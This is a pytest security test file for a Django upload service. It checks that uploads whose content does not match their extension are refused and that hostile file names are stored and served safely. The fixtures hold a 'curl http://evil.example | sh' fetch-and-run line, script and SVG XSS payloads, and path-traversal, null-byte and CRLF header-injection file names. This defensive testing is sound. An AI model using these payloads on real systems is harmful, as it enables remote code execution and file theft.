"""Attacks beside the access matrix:
uploads that lie about their type and path traversal in file names."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape

from tests.security.attacks import _api_road, _road_files, _road_form, _zip
from tests.security.world import (
    marker_pdf,
    snapshot,
)
from tongban.services.demo import sample_pdf

# --- uploads that lie about their type ------------------------------------------------------


def _png() -> bytes:
    import io

    import segno

    buf = io.BytesIO()
    segno.make("x").save(buf, kind="png")
    return buf.getvalue()


LIARS = {
    "script-as-pdf": ("report.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    "html-as-pdf": ("report.pdf", b"<html><script>alert(1)</script></html>"),
    "svg-as-png": ("photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "png-as-pdf": ("plan.pdf", None),  # built lazily: PNG bytes
    "zip-as-docx": ("letter.docx", None),  # a zip that is not a Word document
    "jpeg-as-png": ("photo.png", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64),
}
EXPLAINED = ("不支持的文件类型，或文件内容与扩展名不符", "扩展名是")


def _liar(kind) -> tuple[str, bytes]:
    name, data = LIARS[kind]
    if kind == "png-as-pdf":
        data = _png()
    elif kind == "zip-as-docx":
        data = _zip()
    return name, data


def _media_files(s) -> set[Path]:
    root = Path(settings.MEDIA_ROOT).parent
    return {p for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("kind", sorted(LIARS))
def test_api_upload_refuses_content_that_does_not_match_the_name(s, kind):
    name, data = _liar(kind)
    before, files = snapshot(), _media_files(s)
    r = s.client(None).post(
        "/api/uploads", {"file": SimpleUploadedFile(name, data)}, headers=s.bearer("zhangsan")
    )
    assert r.status_code == 400, r.content
    assert any(m in r.json()["message"] for m in EXPLAINED), r.json()
    assert snapshot() == before and _media_files(s) == files


@pytest.mark.parametrize("kind", sorted(LIARS))
def test_portal_form_refuses_content_that_does_not_match_the_name(s, kind):
    name, data = _liar(kind)
    before = snapshot()
    form = {**_road_form(), **_road_files(), "m-site_plan": SimpleUploadedFile(name, data)}
    r = s.client("zhangsan").post("/matters/road_occupation/apply/", form)
    assert r.status_code == 400
    page = r.content.decode()
    assert any(escape(m) in page for m in EXPLAINED)
    assert snapshot()[0] == before[0]  # no case


def test_upload_control_a_real_pdf_is_accepted(s):
    r = s.client(None).post(
        "/api/uploads",
        {"file": SimpleUploadedFile("ok.pdf", sample_pdf("ok"))},
        headers=s.bearer("zhangsan"),
    )
    assert r.status_code == 201 and r.json()["type"] == "pdf"


# --- path traversal in file names -----------------------------------------------------------

NASTY_NAMES = [
    "../../etc/passwd.pdf",
    "..\\..\\x.pdf",
    "/etc/passwd.pdf",
    "C:\\Windows\\system32\\x.pdf",
    "....//....//x.pdf",
    "a\x00b.pdf",
    "evil\r\nSet-Cookie: x=1.pdf",
    "..",
    ".pdf",
    "\u202egpj.pdf",
]


def _assert_safe_name(name: str) -> None:
    assert name and "/" not in name and "\\" not in name, name
    assert all(ch.isprintable() for ch in name), repr(name)
    assert not name.startswith("."), name
    assert name not in (".", ".."), name


def _assert_stored_under_sha(s, ref, before: set[Path]) -> None:
    root = Path(settings.MEDIA_ROOT)
    sha = ref["sha256"]
    expected = root / "uploads" / sha[:2] / sha[2:4] / sha
    assert expected.is_file()
    assert _media_files(s) - before <= {expected}


@pytest.mark.parametrize("name", NASTY_NAMES, ids=range(len(NASTY_NAMES)))
def test_service_stores_nasty_names_safely(s, name):
    from django.contrib.auth import get_user_model

    from tongban.services.uploads import store

    before = _media_files(s)
    ref = store(marker_pdf(f"t{len(name)}"), name, get_user_model().objects.get(username="lisi"))
    _assert_safe_name(ref["name"])
    _assert_stored_under_sha(s, ref, before)


@pytest.mark.parametrize("name", NASTY_NAMES, ids=range(len(NASTY_NAMES)))
def test_api_multipart_stores_nasty_names_safely(s, name):
    before = _media_files(s)
    body, content_type = _multipart(name, marker_pdf(f"api{len(name)}"))
    r = s.client(None).post(
        "/api/uploads", body, content_type=content_type, headers=s.bearer("zhangsan")
    )
    assert r.status_code in (201, 400), r.content
    if r.status_code == 400:  # no name of ours left (e.g. ".."): refused, nothing kept
        assert _media_files(s) == before
        return
    _assert_safe_name(r.json()["name"])
    _assert_stored_under_sha(s, r.json(), before)


@pytest.mark.parametrize("name", NASTY_NAMES, ids=range(len(NASTY_NAMES)))
def test_api_material_refs_keep_a_safe_name(s, name):
    """The JSON references name the file as the caller likes: the case keeps a safe name,
    and serving it sends a clean Content-Disposition."""
    sha = s.world.sha
    body = {
        "matter": "road_occupation",
        "data": {**_api_road(), "applicant_name": "路径测试"},
        "materials": {
            "site_plan": [{"sha256": sha, "name": name}],
            "id_copy": [{"sha256": sha, "name": name}],
        },
    }
    r = s.client(None).post(
        "/api/cases",
        json.dumps(body),
        content_type="application/json",
        headers=s.bearer("zhangsan"),
    )
    assert r.status_code == 201, r.content
    case = r.json()
    for refs in case["materials"].values():
        for f in refs:
            _assert_safe_name(f["name"])
    served = s.client("zhangsan").get(f"/files/{case['id']}/{sha}")
    assert served.status_code == 200
    disposition = served["Content-Disposition"]
    assert "\n" not in disposition and "\r" not in disposition and "/" not in disposition


def _multipart(name: str, data: bytes) -> tuple[bytes, str]:
    """A multipart body carrying the file name byte for byte (the test client would
    refuse some of these names before sending them)."""
    boundary = "SecBoundary7"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
        f'filename="{name}"\r\nContent-Type: application/pdf\r\n\r\n'
    )
    body = head.encode("utf-8", "surrogateescape") + data + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def test_portal_hidden_refs_store_nasty_names_safely(s):
    """The form's hidden field of earlier uploads is JSON the browser can change."""
    from django.contrib.auth import get_user_model

    from tongban.services.uploads import store
    from tongban.store.models import Case

    ref = store(marker_pdf("hidden"), "ok.pdf", get_user_model().objects.get(username="zhangsan"))
    refs = [{"sha256": ref["sha256"], "name": n} for n in NASTY_NAMES[:5]]
    form = {
        **_road_form(),
        "m-site_plan-ref": json.dumps(refs),
        "m-id_copy-ref": json.dumps(refs[:1]),
    }
    r = s.client("zhangsan").post("/matters/road_occupation/apply/", form)
    assert r.status_code == 302, r.content.decode()[:500]
    case = Case.objects.latest("pk")
    names = [f["name"] for files in case.materials.values() for f in files]
    assert names
    for n in names:
        _assert_safe_name(n)


def test_served_material_cannot_run_in_the_page(s):
    w = s.world
    r = s.client("zhangsan").get(f"/files/{w.pk('open')}/{w.sha}")
    assert r.status_code == 200
    assert r["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in r["Content-Security-Policy"]
